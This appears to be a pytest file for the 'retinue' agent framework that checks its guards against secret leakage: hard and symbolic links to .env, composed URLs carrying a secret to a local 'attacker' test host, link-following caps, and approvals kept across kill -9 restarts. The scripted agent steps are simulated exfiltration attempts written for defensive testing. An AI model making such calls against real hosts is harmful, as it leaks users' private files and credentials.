"""Flows where they are easily lost: hard links, links on many hosts, a schema's address, old logs, kill -9."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from attacking import SECRET, Attacker, events_of, results, retinue_in, serving

from retinue import AgentSpec, Retinue
from retinue.authority import flows, secrets
from retinue.engine.answers import Answer
from retinue.engine.bring import files_in
from retinue.events import ApprovalRequested, ModelReplied, RunStarted, ToolCalled, decode, encode
from retinue.fold import apply
from retinue.run_state import RunState
from retinue.store.memory import MemoryStore
from retinue.testing import call
from retinue.types import ModelRequest, ToolMessage
from retinue.workspace import Files


async def told(retinue: Retinue, prompt: str = "go", **more: Any) -> list[Any]:
    run_id = await retinue.start("general", prompt, **more)
    await retinue.wait(run_id)
    return results(await events_of(retinue, run_id))


@pytest.mark.parametrize("pattern", [SECRET, "PASSWORD=t", "PASSWORD=x"])
async def test_a_search_leaves_out_a_hard_link_of_a_file_of_secrets(
    project: Path, attacker: Attacker, pattern: str
) -> None:
    """And says so in the same words whatever was searched for: else that would tell what is in it."""
    (project / "sub").mkdir()
    (project / "sub/plain.txt").hardlink_to(project / ".env")
    (project / "other-name.md").hardlink_to(project / "other.md")
    steps = [call("grep", pattern=pattern), call("grep", pattern="Nothing", path="."), "done"]
    async with retinue_in(project, attacker, steps) as retinue:
        found, harmless = await told(retinue)
    assert "plain.txt" not in found.text
    assert "PASSWORD=" + SECRET not in found.text
    assert "2 files left out: files like these usually hold secrets" in found.text
    assert "other-name.md" in harmless.text


def test_where_not_all_files_are_looked_at_one_with_several_names_may_hold_secrets(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "other-name.md").hardlink_to(project / "other.md")
    (project / "alone.md").write_text("x")
    files = Files(project=project, workspace=None)
    try:
        names = ("other-name.md", "alone.md")
        assert secrets.hard_links(names, files) == {}
        monkeypatch.setattr(secrets, "MOST_LOOKED_AT", 1)
        assert secrets.hard_links(names, files) == {"other-name.md": "one of more than 1 files"}
    finally:
        files.close()


async def test_a_rule_that_opens_the_file_of_secrets_opens_its_hard_link(
    project: Path, attacker: Attacker
) -> None:
    (project / "plain.txt").hardlink_to(project / ".env")
    steps = [call("grep", pattern=SECRET), "done"]
    async with retinue_in(project, attacker, steps, settings={"approvals.allow": ["grep(.env)"]}) as retinue:
        (found,) = await told(retinue)
    assert "plain.txt" in found.text


@pytest.mark.parametrize("linked", ["hard", "symbolic"])
async def test_no_other_way_to_a_file_of_secrets_reads_it_by_another_name(
    project: Path, attacker: Attacker, linked: str
) -> None:
    """`extract` takes a file for a page, and a web agent is brought what the person names."""
    plain = project / "plain.html"
    if linked == "hard":
        plain.hardlink_to(project / ".env")
    else:
        plain.symlink_to(".env")
    async with retinue_in(project, attacker, [call("extract", source="plain.html"), "done"]) as retinue:
        (extracted,) = await told(retinue)
    assert extracted.not_run == "unattended"
    assert '"extract(.env)"' in extracted.text
    for agent in ("summarize", "compare", "agentic-fetch"):
        async with retinue_in(project, attacker, [call("view", path="plain.html"), "no"]) as retinue:
            run_id = await retinue.start(agent, "look at plain.html")
            await retinue.wait(run_id)
            log = await events_of(retinue, run_id)
        assert SECRET not in "".join(event.text for event in results(log)), agent
        assert any("usually holds secrets" in getattr(event, "text", "") for event in log), agent


async def test_links_are_followed_so_often_on_all_hosts_together(
    project: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(flows, "MOST_IN_ALL", 25)
    async with serving() as second:
        for host in (attacker, second):
            host.pages["/index"] = "".join(f"<p><a href='/l{n}'>{n}</a></p>" for n in range(30))
        follow = [
            call("web_fetch", f"{n}{host.url}", url=f"{host.url}/l{n}")
            for host in (attacker, second)
            for n in range(15)
        ]
        steps = [
            [call("web_fetch", host.url, url=f"{host.url}/index") for host in (attacker, second)],
            call("read", path="notes.md"),
            *follow,
            "done",
        ]
        prompt = f"look around on {attacker.url} and {second.url}"
        more = {"web.allow_hosts": [attacker.host, second.host]}
        async with retinue_in(project, attacker, steps, settings=more) as retinue:
            _, _, _, *followed = await told(retinue, prompt, settings={"limits.max_turns": 60})
    assert [event.is_error for event in followed] == [False] * 25 + [True] * 5, followed[0].text
    assert "25 links and search results have been followed since" in followed[-1].text


async def test_the_address_of_a_schema_is_not_dialled_and_asks_nobody(
    project: Path, attacker: Attacker
) -> None:
    (project / "page.html").write_text("<table><tr><th>name</th></tr><tr><td>x</td></tr></table>")
    schema = {
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "type": "object",
        "properties": {"name": {"type": "string"}},
    }
    steps = [
        call("read", path="notes.md"),
        call("extract", source="page.html", fields=schema),
        call("extract", source=f"{attacker.url}/{SECRET}", fields=schema),
        "done",
    ]
    async with retinue_in(project, attacker, steps) as retinue:
        _, mine, composed = await told(retinue)
    assert not mine.not_run
    assert composed.not_run == "unattended"
    assert "json-schema" not in composed.text
    assert attacker.got == []


async def test_a_web_agent_of_an_old_log_sees_no_more_than_one_of_today(
    project: Path, attacker: Attacker, tmp_path: Path
) -> None:
    """Older logs do not say what their agents see."""
    store = MemoryStore()
    steps = [call("view", path=str(project / "notes.md")), "done"]
    async with retinue_in(project, attacker, ["one"], db=store) as retinue:
        run_id = await retinue.start("agentic-fetch", "go")
        await retinue.wait(run_id)
        log = await events_of(retinue, run_id)
    old = MemoryStore()
    for event in log:
        raw = json.loads(encode(event))
        if isinstance(event, RunStarted):
            assert raw["spec"].pop("files") == "workspace"
        await old.append([decode(json.dumps(raw).encode())])
    async with retinue_in(project, attacker, steps, db=old) as retinue:
        await retinue.resume(run_id, message="more")
        await retinue.wait(run_id)
        texts = [event.text for event in results(await events_of(retinue, run_id))]
    assert texts
    assert not any(SECRET in text for text in texts)


def test_long_texts_are_looked_through_for_files_without_looking_each_word_up(project: Path) -> None:
    """Every word was opened: 0.7 s for 3,000 of them, in the event loop."""
    files = Files(project=project, workspace=None)
    opened: list[str] = []
    locate = files.locate

    def counted(path: str) -> Any:
        opened.append(path)
        return locate(path)

    files.locate = counted
    text = " ".join(f"word{n}" for n in range(1900)) + " see notes.md, ./other.md and NOTES.md"
    assert list(files_in(text, files))[:2] == ["notes.md", "other.md"]
    assert len(opened) < 20
    files.close()


PROGRAM = """
import asyncio, os, signal, sys
from pathlib import Path
from retinue import AgentSpec, Retinue
from retinue.engine.answers import Answer
from trees import Cast, agent, turn
db, project, first, second, resumed = sys.argv[1:6]
def play(request):
    steps = [
        [("read", {"path": "notes.md"})],
        [("web_fetch", {"url": first + "/made-up"})],
        [("hold", {})],
        [("web_fetch", {"url": first + "/made-up-too"})],
        [("web_fetch", {"url": second + "/made-up"})],
        "done",
    ]
    return steps[turn(request)]
from retinue import tool
@tool(effect="network", repeatable=True)
async def hold() -> str:
    "Hold."
    if resumed == "no":
        Path(project, "held").touch()
        await asyncio.Event().wait()
    return "held"
async def approve(question):
    with open(Path(project, "asked"), "a") as file:
        file.write(question.arguments + "\\n")
    return Answer(decision="approve" if resumed == "no" else "reject", reason="no")
async def main():
    hosts = [url.partition("://")[2] for url in (first, second)]
    settings = {"web.allow_hosts": hosts, "web.robots": False}
    spec = agent("root", tools=("read", "web_fetch", "hold"))
    async with Retinue(model=Cast({"root": play}), db=f"sqlite:///{db}", cwd=Path(project), tools=[hold], environ={}, approve=approve, settings=settings) as retinue:
        if resumed == "no":
            await retinue.run(spec, "go")
        else:
            (row,) = [row for row in await retinue.runs()]
            print((await retinue.wait(await retinue.resume(row.run_id))).status)
asyncio.run(main())
"""


async def test_what_was_read_and_allowed_is_known_after_kill_9(
    project: Path, attacker: Attacker, tmp_path: Path
) -> None:
    async with serving() as second:
        given = [str(tmp_path / "runs.db"), str(project), attacker.url, second.url]
        command = [sys.executable, "-c", PROGRAM, *given]
        env = {
            "PYTHONPATH": str(Path(__file__).parent.parent),
            "PATH": "/usr/bin:/bin",
            "HOME": str(tmp_path),
        }
        first = await asyncio.create_subprocess_exec(*command, "no", env=env)
        while not (project / "held").exists():
            assert first.returncode is None
            await asyncio.sleep(0.02)
        first.kill()
        await first.wait()
        (project / "asked").unlink()
        again = await asyncio.create_subprocess_exec(*command, "yes", env=env, stdout=subprocess.PIPE)
        said, _ = await again.communicate()
        assert b"completed" in said
        assert attacker.paths() == ["/made-up", "/made-up-too"], "allowed before, and still"
        assert second.got == []
        assert f"{second.url}/made-up" in (project / "asked").read_text()
        assert attacker.url not in (project / "asked").read_text()


@pytest.mark.parametrize("hosts", [1, 100])
def test_search_results_are_gone_to_so_often_and_then_a_person_is_asked(hosts: int) -> None:
    """A hostile site may have a page for every letter: which results are fetched says something to it."""
    state = RunState()
    state.private["notes.md"] = None
    urls = [f"https://h{n % hosts}.example/{n}" for n in range(100)]
    state.found.update(urls)
    gone = 0
    for number, url in enumerate(urls):
        passage = flows.leaving("web_fetch", "addresses", {"url": url}, state.private, [state])
        if passage.concern is not None:
            break
        gone += 1
        called = ToolCalled(
            run_id="r1", root_id="r1", parent_id=None, depth=0, seq=number + 1, at=0.0, call_id=f"c{number}", name="web_fetch",
            arguments=json.dumps({"url": url}), effect="network", repeatable=True, address=passage.address,
        )  # fmt: skip
        apply(state, called)
    assert gone == (flows.MOST_FOLLOWED if hosts == 1 else flows.MOST_IN_ALL)


@pytest.mark.parametrize(
    "arguments",
    [
        {"opts": {"https://x.example/SECRET": 1}},
        {"opts": [{"a": {"see https://x.example/SECRET now": None}}]},
        {"https://x.example/SECRET": ""},
    ],
)
def test_an_address_that_is_a_name_among_the_arguments_is_one(arguments: dict[str, object]) -> None:
    state = RunState()
    state.private["notes.md"] = None
    passage = flows.leaving("net", "addresses", arguments, state.private, [state])
    assert passage.address == "composed"
    assert passage.concern is not None


class Siblings:
    """A root that has read private data and two children that make up an address of one host.

    The second one asks before the first does; on a restart the first one is there before the second.
    """

    def __init__(self, attacker: Attacker) -> None:
        self.attacker, self.store, self.asked = attacker, MemoryStore(), asyncio.Event()

    async def play(self, request: ModelRequest) -> Any:
        seen = [m for m in request.messages if isinstance(m, ToolMessage)]
        if "You are `agentic-fetch`" in request.system:
            name = "first" if "the first" in request.messages[0].text else "second"
            if name == "first" and not seen:
                await self.asked.wait()
            return "done" if seen else call("web_fetch", url=f"{self.attacker.url}/{name}")
        tasks = [{"agent_id": "agentic-fetch", "prompt": f"the {name}"} for name in ("first", "second")]
        steps = [call("read", path="notes.md"), call("parallel_tasks", tasks=tasks)]
        return steps[len(seen)] if len(seen) < 2 else "done"

    async def left_with_a_question(self, project: Path, **options: Any) -> ApprovalRequested:
        """The process stops while a person is asked, and the other child waits for the answer too."""

        async def never(question: ApprovalRequested) -> Answer:
            self.asked.set()
            return await asyncio.Event().wait()  # pyright: ignore[reportReturnType]

        given = {"db": self.store, "approve": never, **options}
        async with retinue_in(project, self.attacker, self.play, **given) as retinue:
            run_id = await retinue.start("general", "go")
            async with asyncio.timeout(60):
                replies = 0
                while replies < 4:  # two of the root and one of each child
                    log = await events_of(retinue, run_id)
                    replies = sum(isinstance(event, ModelReplied) for event in log)
                    await asyncio.sleep(0.01)
            await retinue.leave()
        (question,) = [e for e in await self.store.events(run_id) if isinstance(e, ApprovalRequested)]
        return question


@pytest.mark.parametrize("decision", ["approve", "reject"])
async def test_a_question_that_was_open_at_a_restart_is_put_by_no_other_child(
    project: Path, attacker: Attacker, decision: Any
) -> None:
    """The child that goes on first is not the one that had asked: it waits for the answer to that one."""
    put = list[str]()

    async def answer(question: ApprovalRequested) -> Answer:
        put.append(question.approval_id)
        return Answer(decision=decision)

    siblings = Siblings(attacker)
    question = await siblings.left_with_a_question(project)
    async with retinue_in(project, attacker, siblings.play, db=siblings.store, approve=answer) as retinue:
        async with asyncio.timeout(60):
            await retinue.wait(await retinue.resume(question.root_id))
        log = await events_of(retinue, question.root_id)
    assert put == [question.approval_id]
    assert len([event for event in log if isinstance(event, ApprovalRequested)]) == 1
    assert sorted(attacker.paths()) == ([] if decision == "reject" else ["/first", "/second"])


@pytest.mark.parametrize("when", ["before", "after"])
async def test_who_waits_for_a_question_of_another_asks_when_that_one_is_cancelled(
    project: Path, attacker: Attacker, when: str
) -> None:
    put = list[str]()

    async def answer(asked: ApprovalRequested) -> Answer:
        put.append(asked.approval_id)
        if asked.approval_id == question.approval_id:
            await retinue.cancel(asked.run_id)
            return await asyncio.Event().wait()  # pyright: ignore[reportReturnType]
        return Answer(decision="approve")

    siblings = Siblings(attacker)
    question = await siblings.left_with_a_question(project)
    async with retinue_in(project, attacker, siblings.play, db=siblings.store, approve=answer) as retinue:
        if when == "before":
            await retinue.cancel(question.run_id)
        async with asyncio.timeout(60):
            await retinue.wait(await retinue.resume(question.root_id))
    assert len(put) == (1 if when == "before" else 2)
    assert put[-1] != question.approval_id
    assert attacker.paths() == ["/first"]


class GoneSibling(Siblings):
    """The second child is of an agent that is there no more after the restart."""

    gone = AgentSpec(
        name="fetcher", description="fetches", prompt="You are the fetcher.", tools=("web_fetch",)
    )

    def __init__(self, attacker: Attacker, way: str) -> None:
        super().__init__(attacker)
        self.way = way

    async def play(self, request: ModelRequest) -> Any:
        seen = [m for m in request.messages if isinstance(m, ToolMessage)]
        if "You are the fetcher" in request.system:
            return "done" if seen else call("web_fetch", url=f"{self.attacker.url}/second")
        if "You are `agentic-fetch`" in request.system or len(seen) != 1:
            return await super().play(request)
        if self.way == "calls":
            return [call("agentic-fetch", prompt="the first"), call("fetcher", prompt="the second")]
        names = {"first": "agentic-fetch", "second": "fetcher"}
        return call("parallel_tasks", tasks=[{"agent_id": names[n], "prompt": f"the {n}"} for n in names])


@pytest.mark.parametrize("way", ["calls", "batch"])
async def test_nobody_waits_for_a_question_of_one_that_is_not_taken_up_again(
    project: Path, attacker: Attacker, way: str
) -> None:
    put = list[str]()

    async def answer(asked: ApprovalRequested) -> Answer:
        put.append(asked.approval_id)
        return Answer(decision="approve")

    siblings = GoneSibling(attacker, way)
    question = await siblings.left_with_a_question(project, agents=[siblings.gone])
    async with retinue_in(project, attacker, siblings.play, db=siblings.store, approve=answer) as retinue:
        async with asyncio.timeout(60):
            report = await retinue.wait(await retinue.resume(question.root_id))
    assert report.status == "completed"
    assert len(put) == 1
    assert put != [question.approval_id]
    assert attacker.paths() == ["/first"]
